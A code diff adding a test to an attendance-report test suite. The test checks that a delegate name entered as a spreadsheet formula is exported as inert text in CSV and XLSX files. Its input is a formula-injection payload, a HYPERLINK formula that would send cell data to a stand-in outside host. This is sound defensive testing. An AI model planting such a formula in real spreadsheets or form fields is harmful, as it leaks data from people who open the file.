@@ -1,3 +1,4 @@
+import ExcelJS from 'exceljs';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createTestDatabase, type TestDatabase } from '../../tests/support/database';
 import { attendanceReport } from '../attendance';
@@ -82,5 +83,39 @@ describe('report files (CSV, XLSX, PDF) read back by independent parsers', () =>
     expect(text).toContain('Comunità Sociale Cremasca (r)');
     expect(text).toContain('Assessora Gioia Lucà');
     expect(text).toContain('Fabio Gioià');
+  });
+
+  it('a delegate name typed as a formula stays text: an apostrophe before it in the CSV, a string cell in the XLSX', async () => {
+    // What a mayor could type as their delegate on the answer page; the roll call then records it.
+    const typed = '=HYPERLINK("https://example.org/?"&A1;"Apri")';
+    await db.prisma.attendance.updateMany({
+      where: { delegateName: 'Assessora Gioia Lucà' },
+      data: { delegateName: typed },
+    });
+    const report = await attendanceReport(
+      db.prisma,
+      { bodyId: (await db.prisma.meeting.findFirstOrThrow()).bodyId, from: '2027-01-01', to: '2027-12-31' },
+      { kind: 'all' },
+    );
+    const withFormula = attendanceDocument(report, new Date('2028-01-15T10:30:00Z'));
+    try {
+      const row = readCsv(await renderFile(withFormula, 'csv', 2)).find(
+        (r) => r[3] === 'Ada Bonì' && r[0] === '15/09/2027',
+      );
+      expect(row?.[6]).toBe(`'${typed}`);
+
+      const workbook = new ExcelJS.Workbook();
+      await workbook.xlsx.load((await renderFile(withFormula, 'xlsx')) as unknown as ArrayBuffer);
+      const cells: ExcelJS.Cell[] = [];
+      workbook.getWorksheet('Per seduta')!.eachRow((r) => r.eachCell((c) => void cells.push(c)));
+      const cell = cells.find((c) => String(c.value).includes('HYPERLINK'));
+      expect(cell?.type).toBe(ExcelJS.ValueType.String);
+      expect(cell?.value).toBe(typed);
+    } finally {
+      await db.prisma.attendance.updateMany({
+        where: { delegateName: typed },
+        data: { delegateName: 'Assessora Gioia Lucà' },
+      });
+    }
   });
 });
